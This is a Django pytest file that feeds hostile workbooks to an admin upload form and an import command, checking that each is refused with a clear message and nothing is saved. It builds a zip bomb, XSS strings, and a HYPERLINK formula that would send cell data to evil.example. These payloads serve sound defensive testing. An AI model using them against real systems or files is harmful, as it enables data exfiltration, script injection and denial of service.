"""Hostile workbooks, through the admin upload and through the import command: never a 5xx or a traceback,
always a clear message, and nothing half-written."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from collections.abc import Callable

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import Workbook

from surveys.models import ANSWER_FIELDS, Response
from tests.helpers import PARTICIPANT_HEADER, RESPONSE_HEADER, WORKSHOP_HEADER, make_workbook
from workshops.models import Participant, Workshop

WORKSHOP = [
    "FY19-AEO",
    "WCO Regional Workshop on AEO",
    "regional",
    dt.date(2019, 12, 2),
    dt.date(2019, 12, 5),
    "Bangkok",
    "in-person",
    "yes",
]
PARTICIPANT = ["FY19-AEO", "Jane Doe", "jane@customs.gov.fj", "FJ"]
ANSWERS = dict.fromkeys(ANSWER_FIELDS, "") | {"q1_shared_materials": "x", "q2_utilization": "Shared it."}


def _response(**changes) -> list:
    answers = ANSWERS | changes
    return ["FY19-AEO", "jane@customs.gov.fj", dt.datetime(2020, 6, 20, 9, 0), *[answers[f] for f in ANSWER_FIELDS]]


def _book(workshop=WORKSHOP, participant=PARTICIPANT, response=None, **sheets) -> bytes:
    content = {
        "workshops": [WORKSHOP_HEADER, workshop],
        "participants": [PARTICIPANT_HEADER, participant],
        "responses": [RESPONSE_HEADER, response or _response()],
    }
    content.update(sheets)
    return make_workbook(content).getvalue()


def _with_workshop(**changes) -> bytes:
    row = dict(zip(WORKSHOP_HEADER, WORKSHOP, strict=True)) | changes
    return _book(workshop=[row[c] for c in WORKSHOP_HEADER])


def _with_participant(**changes) -> bytes:
    row = dict(zip(PARTICIPANT_HEADER, PARTICIPANT, strict=True)) | changes
    return _book(participant=[row[c] for c in PARTICIPANT_HEADER])


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _zip_bomb() -> bytes:
    # 210 MiB of zeros deflate to about 200 KiB: past the guard on unpacked size.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(210):
                member.write(chunk)
    return buffer.getvalue()


def _damaged_xml() -> bytes:
    good = _book()
    source = zipfile.ZipFile(io.BytesIO(good))
    members = {info.filename: source.read(info.filename) for info in source.infolist()}
    members["xl/worksheets/sheet1.xml"] = b"<worksheet \xff\xfe not xml at all"
    return _zip(members)


def _formula() -> bytes:
    book = Workbook()
    book.remove(book.active)
    for name, rows in {
        "workshops": [WORKSHOP_HEADER, WORKSHOP],
        "participants": [PARTICIPANT_HEADER, PARTICIPANT],
    }.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    book["participants"]["B2"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# name -> (workbook bytes, a fragment the message must contain, or fragments one of which it must contain)
CASES: dict[str, tuple[Callable[[], bytes], str | tuple[str, ...]]] = {
    "plain text named .xlsx": (lambda: b"code,title\nFY19,AEO\n", "not an .xlsx workbook"),
    "empty file": (lambda: b"", ("submitted file is empty", "not an .xlsx workbook")),
    "a PDF": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n", "not an .xlsx workbook"),
    "invalid UTF-8 bytes": (lambda: b"\xff\xfe\xfd\x80\x81 not utf-8 \xc3\x28", "not an .xlsx workbook"),
    "a zip that is no workbook": (lambda: _zip({"readme.txt": b"hello"}), "cannot be read"),
    "a zip bomb": (_zip_bomb, "more than we accept"),
    "damaged sheet XML": (_damaged_xml, "cannot be read"),
    "no known sheet": (lambda: make_workbook({"Sheet1": [["a"], [1]]}).getvalue(), "unknown sheet"),
    "header only, missing columns": (lambda: _book(workshops=[["code"], ["X"]]), "required column is missing"),
    "unknown column": (lambda: _book(workshops=[[*WORKSHOP_HEADER, "salary"], [*WORKSHOP, 1]]), "unknown column"),
    "date that is text": (lambda: _with_workshop(start_date="yesterday"), "expected a date"),
    # Excel counts dates in days since 1900: 3.5 is 3 January 1900, before the start.
    "date that is a number": (lambda: _with_workshop(end_date=3.5), "is before the start date"),
    "end before start": (lambda: _with_workshop(end_date=dt.date(2019, 11, 1)), "start"),
    "unknown scope": (lambda: _with_workshop(scope="galactic"), "expected one of"),
    "scope that is a number": (lambda: _with_workshop(scope=42), "expected one of"),
    "code with script": (lambda: _with_workshop(code="<script>alert(1)</script>"), "letters, digits"),
    "huge title": (lambda: _with_workshop(title="A" * 40_000), "characters"),
    "not an e-mail": (lambda: _with_participant(email="jane at customs"), "not a valid e-mail"),
    "e-mail with HTML": (lambda: _with_participant(email="<img src=x onerror=alert(1)>@x.org"), "not a valid e-mail"),
    "unknown administration": (lambda: _with_participant(administration="ZZ"), "ZZ"),
    "unknown workshop": (lambda: _with_participant(workshop="FY99-NONE"), "FY99-NONE"),
    "blank name": (lambda: _with_participant(name="   "), "required"),
    "a formula": (_formula, "formula"),
    "count that is text": (lambda: _book(response=_response(q1_shared_with="many")), "whole number"),
    "negative count": (lambda: _book(response=_response(q1_shared_with=-4)), "negative"),
    "implausible count": (lambda: _book(response=_response(q1_shared_with=10**12)), "implausibly large"),
    "yes/no that is a sentence": (lambda: _book(response=_response(q3_direct_effects="perhaps")), "yes/no"),
    "huge reply text": (lambda: _book(response=_response(q2_utilization="x" * 100_000)), "characters"),
    "reply of nobody": (
        lambda: _book(response=["FY19-AEO", "ghost@x.org", dt.datetime(2020, 6, 1), *ANSWERS.values()]),
        "ghost@x.org",
    ),
    "duplicate workshop code": (lambda: _book(workshops=[WORKSHOP_HEADER, WORKSHOP, WORKSHOP]), "FY19-AEO"),
}


@pytest.fixture(scope="module")
def workbooks() -> dict[str, bytes]:
    return {name: make() for name, (make, _) in CASES.items()}


def _says(text: str, case: str) -> bool:
    expected = CASES[case][1]
    return any(fragment in text for fragment in ((expected,) if isinstance(expected, str) else expected))


def _nothing_written() -> None:
    assert Workshop.objects.count() == 0
    assert Participant.objects.count() == 0
    assert Response.objects.count() == 0


def test_the_good_workbook_imports(staff_client):
    # The cases below are one change away from this workbook: it must import, or they prove nothing.
    response = staff_client.post(
        reverse("admin:workshops_workshop_import"), {"workbook": _upload(_book())}, follow=True
    )
    assert "Workbook imported" in response.content.decode()
    assert Response.objects.replies().count() == 1


def _upload(data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("hostile.xlsx", data, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


@pytest.mark.parametrize("case", CASES)
def test_admin_upload_refuses_with_a_clear_message(staff_client, workbooks, case):
    response = staff_client.post(
        reverse("admin:workshops_workshop_import"), {"workbook": _upload(workbooks[case])}, follow=True
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "Nothing was imported" in html or "errorlist" in html
    assert _says(html.replace("&#x27;", "'").replace("&lt;", "<").replace("&gt;", ">"), case)
    assert "<script>alert(1)</script>" not in html and "<img src=x" not in html  # shown, escaped, never run
    _nothing_written()


@pytest.mark.parametrize("case", CASES)
def test_import_command_refuses_with_a_clear_message(db, workbooks, case, tmp_path):
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(workbooks[case])
    errors = io.StringIO()
    with pytest.raises(CommandError) as refused:
        call_command("import_workbook", str(path), stderr=errors)
    assert _says(errors.getvalue() + str(refused.value), case)
    _nothing_written()


def test_upload_larger_than_the_limit_is_refused_before_it_is_read(staff_client, settings):
    settings.WORKBOOK_MAX_BYTES = 2048
    response = staff_client.post(
        reverse("admin:workshops_workshop_import"),
        {
            "workbook": _upload(
                _book(),
            )
        },
    )
    assert response.status_code == 200
    assert "at most" in response.content.decode()
    _nothing_written()


def test_upload_without_a_file_or_csrf(staff_client, client, django_user_model):
    response = staff_client.post(reverse("admin:workshops_workshop_import"), {})
    assert response.status_code == 200
    assert "This field is required" in response.content.decode()
    from django.test import Client

    strict = Client(enforce_csrf_checks=True)
    strict.force_login(staff_client.user)
    assert strict.post(reverse("admin:workshops_workshop_import"), {"workbook": _upload(_book())}).status_code == 403
    _nothing_written()
